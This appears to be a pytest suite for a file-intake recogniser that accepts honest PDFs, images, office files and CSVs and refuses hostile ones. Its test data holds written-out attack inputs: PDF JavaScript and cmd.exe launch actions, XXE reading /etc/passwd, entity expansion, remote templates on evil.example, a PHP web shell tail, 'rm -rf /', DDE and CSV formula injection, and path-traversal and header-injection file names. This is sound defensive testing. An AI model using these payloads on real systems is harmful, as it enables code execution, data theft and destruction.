"""What a document is, is read in its bytes; what would act, hides, swells or lies is refused in words."""

from __future__ import annotations

import contextlib
import random
import zlib

import pytest
from builders.papers import ODS, archive, chunk, docx, jpeg, odf, pdf, png, stream

from catalogue_portal.evidence.content.recognition import MEDIA_TYPES, recognise, recognised_for
from catalogue_portal.evidence.content.refusal import Refused
from catalogue_portal.evidence.intake import plain_name
from catalogue_portal.evidence.types import evidence_types
from doctrine.evidence_types import Format

SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
BASIC = f'<d xmlns:anything="{SCRIPT}"><anything:event-listener/></d>'
TEMPLATE = (
    '<Relationships xmlns="http://x"><Relationship Id="r" TargetMode="External" Target="https://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
HYPERLINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
DISGUISED = (
    TEMPLATE.replace('="External"', ' = "External"'),
    TEMPLATE.replace('"External"', '"&#69;xternal"'),
    TEMPLATE.replace("attachedTemplate", "attached&#84;emplate"),
    TEMPLATE.replace('Id="r"', 'Id=">"'),
    TEMPLATE.encode("utf-16"),
)
IMAGE = '<d xmlns:x="http://www.w3.org/1999/xlink" xmlns:draw="draw"><draw:image x:href="{}"/></d>'
XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'
OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
HIDDEN = zlib.compressobj(level=0)
BEHIND = HIDDEN.compress(b"endstream << /S /JavaScript >>") + HIDDEN.flush()

HONEST = [
    (Format.PDF, pdf()),
    (Format.PDF, pdf(stream(b"BT (Bonjour) Tj ET"), tail=b"\r\n")),
    (Format.PDF, pdf(stream(b"4 0 << /Type /Annot >>", b"/Type /ObjStm /N 1 /First 4 "))),
    (Format.PNG, png()),
    (Format.JPEG, jpeg()),
    (Format.ODT, odf(Configurations2__accelerator__current_dot_xml="")),
    (Format.ODS, odf(ODS)),
    (Format.DOCX, docx()),
    (Format.DOCX, docx(word___rels__document_dot_xml_dot_rels=HYPERLINK)),
    (Format.ODT, odf(styles_dot_xml=IMAGE.format("Pictures/seen.png"))),
    (Format.ODT, odf(styles_dot_xml=IMAGE.format("https://example.org").replace("draw:image", "draw:a"))),
    (Format.CSV, "critère;réponse\n1;oui\n2;non\n".encode()),
    (Format.CSV, b"\xef\xbb\xbfa,b\r\n1,2\r\n"),
    (Format.TEXT, b"Nous lisons vos mesures, pour vous les montrer.\nEt rien d'autre.\n"),
    (Format.TEXT, b"a;b\n1\n"),
]
REFUSED = [
    ("document_empty", b" \n "),
    ("document_unknown", b"MZ\x90\x00\x03"),
    ("document_unknown", b"\x7fELF\x02\x01\x01"),
    ("document_unknown", "Déclaration".encode("latin-1")),
    ("document_unknown", "texte".encode("utf-16")),
    ("document_unknown", b"text\x00with\x1bcontrol"),
    ("document_unknown", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old office"),
    ("document_can_act", b"<!DOCTYPE html><html><script>alert(1)</script>"),
    ("document_can_act", b"words <ScRiPt src=//evil.example></script>"),
    ("document_can_act", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    ("document_can_act", b"#!/bin/sh\nrm -rf /\n"),
    # PDF
    ("document_damaged", b"%PDF-1.7\n"),
    ("document_damaged", b"%PDF-none\n%%EOF"),
    ("document_can_act", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    ("document_can_act", pdf(b"<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>")),
    ("document_can_act", pdf(b"<< /S/Launch/F(cmd.exe) >>")),
    ("document_can_act", pdf(b"<< /AcroForm << /XFA 5 0 R >> >>")),
    ("document_can_act", pdf(stream(b"4 0 << /S /JavaScript /JS (x) >>", OBJECTS))),
    ("document_can_act", pdf(b"<< /Filter /FlateDecode >>\nstream\r\n" + BEHIND + b"\nendstream")),
    ("document_damaged", pdf(stream(b"4 0 << >>", OBJECTS + b"/DecodeParms << /Predictor 12 >> "))),
    ("document_encloses_files", pdf(b"<< /Names << /EmbeddedFiles 6 0 R >> >>")),
    ("document_locked", pdf(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>")),
    ("document_of_two_kinds", pdf(tail=b"<html><script>alert(1)</script>")),
    ("document_of_two_kinds", pdf(stream(archive({"a": "b"}), packed=False))),
    ("document_too_dense", pdf(*[stream(bytes(60_000_000))] * 2)),
    # pictures
    ("document_damaged", png()[:-4]),
    ("document_damaged", png().replace(b"IDAT", b"IDAX")),
    ("document_damaged", b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"")),
    ("document_of_two_kinds", png(tail=archive({"a": "b"}))),
    ("document_too_dense", png(60_000, 60_000)),
    ("document_damaged", jpeg()[:-2]),
    ("document_damaged", b"\xff\xd8\xff\xd9"),
    ("document_of_two_kinds", jpeg(tail=b"<?php system($_GET[0]); ?>")),
    ("document_too_dense", jpeg(65_000, 65_000)),
    # archives
    ("document_unknown", archive({"readme.txt": "hello"})),
    ("document_unknown", odf("application/epub+zip")),
    ("document_damaged", archive({"mimetype": "application/vnd.oasis.opendocument.text"})),
    ("document_damaged", archive({"mimetype": "application/vnd.oasis.opendocument.text"}, stored=())),
    ("document_can_act", odf(Basic__Standard__Module1_dot_xml="<m/>")),
    ("document_can_act", odf(Scripts__python__a_dot_py="pass")),
    ("document_can_act", odf(settings_dot_xml=BASIC)),
    ("document_declares_entities", odf(settings_dot_xml=XXE)),
    ("document_declares_entities", odf(settings_dot_xml=XXE.encode("utf-16"))),
    ("document_declares_entities", docx(word__styles_dot_xml=LAUGHS)),
    ("document_damaged", docx(word__styles_dot_xml="<open>")),
    ("document_can_act", docx(word__vbaProject_dot_bin=b"x")),
    (
        "document_can_act",
        docx('<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled"/>'),
    ),
    ("document_can_act", docx(word___rels__settings_dot_xml_dot_rels=TEMPLATE)),
    *(("document_can_act", docx(word___rels__settings_dot_xml_dot_rels=one)) for one in DISGUISED),
    ("document_can_act", docx(word___rels__document_dot_xml_dot_rels=TEMPLATE.replace("attachedTemplate", "image"))),
    ("document_can_act", docx('<Default Extension="xin" ContentType="application/vnd.ms-word.macro&#69;nabled"/>')),
    ("document_can_act", docx('<Override PartName="/word/a.dat" ContentType="application/vnd.vba&#80;roject"/>')),
    ("document_can_act", odf(styles_dot_xml=IMAGE.format("https://evil.example/seen.png"))),
    ("document_can_act", odf(styles_dot_xml=IMAGE.format("//evil.example/seen.png"))),
    ("document_can_act", odf(styles_dot_xml='<d xmlns:o="o"><o:dde-source o:dde-application="cmd"/></d>')),
    ("document_can_act", odf(ODS, styles_dot_xml='<d xmlns:t="t"><t:c t:formula="of:=DDE(1;2)"/></d>')),
    ("document_damaged", odf(settings_dot_xml='<?xml version="1.0" encoding="utf-7"?><d/>')),
    ("document_damaged", odf(settings_dot_xml='<?xml version="1.0" encoding="x-none"?><d/>')),
    ("document_encloses_files", docx(word__embeddings__sheet_dot_xlsx=b"PK")),
    ("document_encloses_files", odf(payload_dot_exe=b"MZ")),
    ("document_damaged", odf(**{"..__..__etc__passwd": "x"})),
    ("document_too_dense", odf(Pictures__big_dot_bmp=bytes(30_000_000))),
    ("document_too_dense", archive({"mimetype": "x"} | {f"p{number}": "" for number in range(2_001)})),
    ("document_of_two_kinds", odf() + b"<script>"),
    ("document_of_two_kinds", b"PK\x03\x04" + b"\x00" * 30 + odf()),
]


@pytest.mark.parametrize(("form", "content"), HONEST, ids=[f"{number}-{row[0]}" for number, row in enumerate(HONEST)])
def test_an_honest_document_is_known_by_its_content(form: Format, content: bytes) -> None:
    assert recognise(content).format is form


@pytest.mark.parametrize(("code", "content"), REFUSED, ids=[f"{number}-{row[0]}" for number, row in enumerate(REFUSED)])
def test_what_acts_hides_swells_or_lies_is_refused(code: str, content: bytes) -> None:
    with pytest.raises(Refused) as refused:
        recognise(content)
    assert refused.value.code == code


def test_a_table_that_a_spreadsheet_would_compute_is_flagged_and_kept() -> None:
    assert recognise(b"a;b\n=cmd|' /C calc'!A0;2\n").warnings == ("formulas",)
    assert recognise(b"a;b\n-2,5;+ 1\n").warnings == ("formulas",)
    assert recognise(b"a;b\n-2,5;1\n").warnings == ()


def test_a_type_takes_its_formats_only_and_a_table_counts_as_text() -> None:
    consent, grid = evidence_types()["consent_text"], evidence_types()["content_grid"]

    assert recognised_for(consent, b"but;vous\nune;phrase\n").format is Format.TEXT
    assert recognised_for(grid, b"a;b\n1;2\n").format is Format.CSV
    with pytest.raises(Refused) as refused:
        recognised_for(consent, pdf())
    assert (refused.value.code, refused.value.members["format"]) == ("document_of_another_format", "pdf")


def test_whatever_is_cut_or_changed_is_known_or_refused_and_never_breaks() -> None:
    chance = random.Random(7)  # noqa: S311 - the same documents at each run
    for _form, content in HONEST:
        for _ in range(60):
            spoiled = bytearray(content[: chance.randrange(1, len(content) + 1)])
            spoiled[chance.randrange(len(spoiled))] = chance.randrange(256)
            with contextlib.suppress(Refused):
                assert recognise(bytes(spoiled)).format in MEDIA_TYPES


@pytest.mark.parametrize(
    ("sent", "form", "kept"),
    [
        ("certificat HDS.pdf", "pdf", "certificat HDS.pdf"),
        ("../../etc/passwd", "text", "passwd.txt"),
        ("C:\\temp\\rapport.exe", "pdf", "rapport.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "pdf", "a_b_Set-Cookie_ x.pdf"),
        ("\u202efdp.exe", "pdf", "_fdp.pdf"),
        ("", "png", "document.png"),
        ("...", "csv", "document.csv"),
        ("x" * 500 + ".pdf", "pdf", "x" * 100 + ".pdf"),
    ],
)
def test_a_name_is_made_harmless_and_ends_as_its_content_is(sent: str, form: str, kept: str) -> None:
    assert plain_name(sent, form) == kept
